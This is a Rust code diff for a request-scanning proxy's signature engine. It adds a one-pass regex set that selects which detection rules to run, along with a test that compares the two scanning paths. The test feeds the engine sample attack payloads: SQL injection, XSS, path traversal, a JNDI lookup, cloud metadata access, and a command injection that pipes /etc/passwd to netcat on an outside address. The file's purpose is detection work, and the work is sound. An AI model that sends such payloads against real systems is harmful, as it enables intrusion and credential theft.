@@ -2,11 +2,14 @@
 //! then only those rules' regexes run. Everything is compiled once, at configure time.
 
 pub mod packs;
+mod set;
 
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
 use regex::bytes::{Regex, RegexBuilder};
+use regex_automata::PatternID;
 
 use crate::targets::{Scope, TargetKind};
+use set::{MatchSet, SetPattern};
 
 /// Bounds on compiled regex size, so a hostile custom rule cannot exhaust the proxy's memory.
 const REGEX_SIZE_LIMIT: usize = 4 << 20;
@@ -41,6 +44,8 @@ pub struct SignatureSet {
     literal_signatures: Vec<Vec<u16>>,
     /// Signatures without literals: their regex always runs (custom regex rules).
     unfiltered: Vec<u16>,
+    /// Every signature's pattern in one DFA, for values with several candidates.
+    set: Option<MatchSet>,
 }
 
 /// A match: which signature, and the matched bytes' range in the value.
@@ -59,6 +64,13 @@ impl SignatureSet {
         let mut literal_signatures: Vec<Vec<u16>> = Vec::new();
         let mut unfiltered = Vec::new();
         let mut signatures = Vec::with_capacity(sources.len());
+        let set_patterns: Vec<SetPattern<'_>> = sources
+            .iter()
+            .map(|src| SetPattern {
+                pattern: src.pattern,
+                case_insensitive: src.case_insensitive,
+            })
+            .collect();
         for (index, src) in sources.into_iter().enumerate() {
             let regex = RegexBuilder::new(src.pattern)
                 .case_insensitive(src.case_insensitive)
@@ -89,6 +101,7 @@ impl SignatureSet {
                 regex,
             });
         }
+        let set = MatchSet::build(&set_patterns);
         let prefilter = if literals.is_empty() {
             None
         } else {
@@ -107,6 +120,7 @@ impl SignatureSet {
             prefilter,
             literal_signatures,
             unfiltered,
+            set,
         })
     }
 
@@ -147,28 +161,67 @@ impl SignatureSet {
         if !any {
             return;
         }
-        for (w, &bits) in candidates.iter().enumerate() {
-            let mut bits = bits;
-            while bits != 0 {
-                let i = w * 64 + bits.trailing_zeros() as usize;
-                bits &= bits - 1;
+        // Keep only the candidates that apply to this target.
+        let mut applicable = 0;
+        for (w, bits) in candidates.iter_mut().enumerate() {
+            let mut rest = *bits;
+            while rest != 0 {
+                let i = w * 64 + rest.trailing_zeros() as usize;
+                rest &= rest - 1;
                 let sig = &self.signatures[i];
-                if !sig.scope.contains(kind) {
-                    continue;
-                }
-                if let Some(want) = &sig.target_name {
-                    if !name.eq_ignore_ascii_case(want) {
-                        continue;
-                    }
-                }
-                if let Some(m) = sig.regex.find(value) {
-                    on_match(SignatureMatch {
-                        rule: sig.rule,
-                        start: m.start(),
-                        end: m.end(),
-                    });
+                let applies = sig.scope.contains(kind)
+                    && sig
+                        .target_name
+                        .as_ref()
+                        .is_none_or(|want| name.eq_ignore_ascii_case(want));
+                if applies {
+                    applicable += 1;
+                } else {
+                    *bits &= !(1 << (i % 64));
                 }
             }
+        }
+        let run = |i: usize, on_match: &mut dyn FnMut(SignatureMatch)| {
+            let sig = &self.signatures[i];
+            if let Some(m) = sig.regex.find(value) {
+                on_match(SignatureMatch {
+                    rule: sig.rule,
+                    start: m.start(),
+                    end: m.end(),
+                });
+            }
+        };
+        // Several regexes would each read the whole value: one set pass says which can match.
+        if applicable > 1 {
+            if let Some(set) = &self.set {
+                let answered = set.matching(value, |found| {
+                    for_each_bit(candidates, |i| {
+                        if PatternID::new(i).is_ok_and(|p| found.contains(p)) {
+                            run(i, &mut on_match);
+                        }
+                    })
+                });
+                if answered {
+                    return;
+                }
+            }
+        }
+        for_each_bit(candidates, |i| run(i, &mut on_match));
+    }
+
+    /// Heap bytes of the one-pass set (its DFA and the transition cache grown so far).
+    pub fn set_memory_usage(&self) -> usize {
+        self.set.as_ref().map_or(0, MatchSet::memory_usage)
+    }
+}
+
+/// Calls `f` with the index of every set bit, in increasing order.
+fn for_each_bit(words: &[u64], mut f: impl FnMut(usize)) {
+    for (w, &bits) in words.iter().enumerate() {
+        let mut bits = bits;
+        while bits != 0 {
+            f(w * 64 + bits.trailing_zeros() as usize);
+            bits &= bits - 1;
         }
     }
 }
@@ -196,6 +249,74 @@ mod tests {
         let before = ids.len();
         ids.dedup();
         assert_eq!(before, ids.len(), "rule ids are unique");
+    }
+
+    fn builtin_set() -> SignatureSet {
+        SignatureSet::compile(
+            packs::BUILTIN
+                .iter()
+                .enumerate()
+                .map(|(rule, def)| SignatureSource {
+                    rule,
+                    scope: def.scope,
+                    target_name: None,
+                    literals: def.literals.iter().map(|l| (*l).to_owned()).collect(),
+                    pattern: def.pattern,
+                    case_insensitive: true,
+                })
+                .collect(),
+        )
+        .unwrap()
+    }
+
+    #[test]
+    fn one_pass_set_and_one_regex_at_a_time_agree() {
+        let with_set = builtin_set();
+        let mut without_set = builtin_set();
+        assert!(with_set.set.is_some(), "the built-in patterns form a set");
+        without_set.set = None;
+        let prose = "Lorem ipsum dolor sit amet, or select the best plan; O'Brien & Co. <b>x</b> ";
+        let payloads = [
+            "1' OR '1'='1' -- ",
+            "<img src=x onerror=alert(1)>",
+            "../../etc/passwd",
+            "${jndi:ldap://x/a}",
+            "; cat /etc/passwd | nc 10.0.0.1 4444",
+            "{{7*7}}",
+            "http://169.254.169.254/latest/meta-data/",
+            "UNION SELECT username, password FROM users",
+        ];
+        let mut values: Vec<String> = payloads.iter().map(|p| (*p).to_owned()).collect();
+        for (i, p) in payloads.iter().enumerate() {
+            values.push(format!("{}{p}{}", prose.repeat(i), prose.repeat(3)));
+            values.push(format!("{p} and {}", payloads[(i + 3) % payloads.len()]));
+        }
+        values.push(prose.repeat(40));
+        let kinds = [
+            TargetKind::Path,
+            TargetKind::QueryValue,
+            TargetKind::Header,
+            TargetKind::UserAgent,
+            TargetKind::BodyValue,
+            TargetKind::BodyRaw,
+        ];
+        let mut scratch = Vec::new();
+        let mut set_hits = 0;
+        for value in &values {
+            for kind in kinds {
+                let mut a = Vec::new();
+                let mut b = Vec::new();
+                with_set.scan(kind, b"v", value.as_bytes(), &mut scratch, |m| {
+                    a.push((m.rule, m.start, m.end))
+                });
+                without_set.scan(kind, b"v", value.as_bytes(), &mut scratch, |m| {
+                    b.push((m.rule, m.start, m.end))
+                });
+                assert_eq!(a, b, "{kind:?} {value:?}");
+                set_hits += a.len();
+            }
+        }
+        assert!(set_hits > 50, "the payloads match ({set_hits})");
     }
 
     #[test]
